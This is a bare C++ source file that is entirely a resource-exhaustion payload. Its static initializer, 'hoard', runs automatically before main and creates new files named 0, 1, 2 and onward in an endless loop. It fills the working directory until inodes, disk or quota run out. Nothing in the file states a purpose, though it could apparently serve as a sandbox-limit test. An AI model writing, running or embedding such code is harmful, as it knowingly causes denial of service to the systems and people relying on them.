#include <fcntl.h>
#include <unistd.h>

#include <string>
static const int hoard = [] {
  for (long n = 0;; ++n) ::close(::creat(std::to_string(n).c_str(), 0600));
  return 0;
}();
